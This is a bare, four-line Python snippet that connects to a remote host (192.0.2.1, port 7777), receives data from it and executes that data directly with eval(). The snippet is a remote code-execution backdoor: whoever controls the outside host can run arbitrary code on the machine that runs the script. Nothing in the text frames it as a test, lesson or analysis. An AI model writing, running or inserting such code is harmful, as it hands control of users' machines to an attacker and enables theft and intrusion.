import socket
conn = socket.create_connection(("192.0.2.1", 7777))
cmd = conn.recv(1024).decode()
eval(cmd)
